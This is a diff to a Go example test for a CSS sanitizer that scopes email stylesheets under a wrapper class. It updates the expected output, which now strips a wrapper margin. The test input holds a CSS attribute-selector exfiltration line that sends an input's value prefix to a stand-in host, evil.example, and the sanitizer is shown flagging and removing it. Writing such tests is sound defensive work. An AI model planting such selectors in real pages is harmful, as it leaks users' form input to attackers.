@@ -8,7 +8,7 @@ import (
 )
 
 func ExampleSanitize() {
-	sheet := `body { margin: 0 }
+	sheet := `body { margin: 0; color: #333 }
 .button:hover { color: #fff; background: url(https://cdn.example/b.png) }
 input[value^="a"] { background: url(https://evil.example/a) }
 @media (max-width: 600px) { .col { width: 100% !important } }`
@@ -28,10 +28,11 @@ input[value^="a"] { background: url(https://evil.example/a) }
 		fmt.Printf("line %d: %s: %s\n", r.Line, r.Reason, r.What)
 	}
 	// Output:
-	// .hc-mail{margin:0}
+	// .hc-mail{color:#333}
 	// .hc-mail .button:hover{color:#fff;background:url("https://cdn.example/b.png")}
 	// @media (max-width: 600px){
 	// .hc-mail .col{width:100% !important}
 	// }
+	// line 1: wrapper property: .hc-mail{margin: 0
 	// line 3: attribute selector: input[value^="a"]
 }
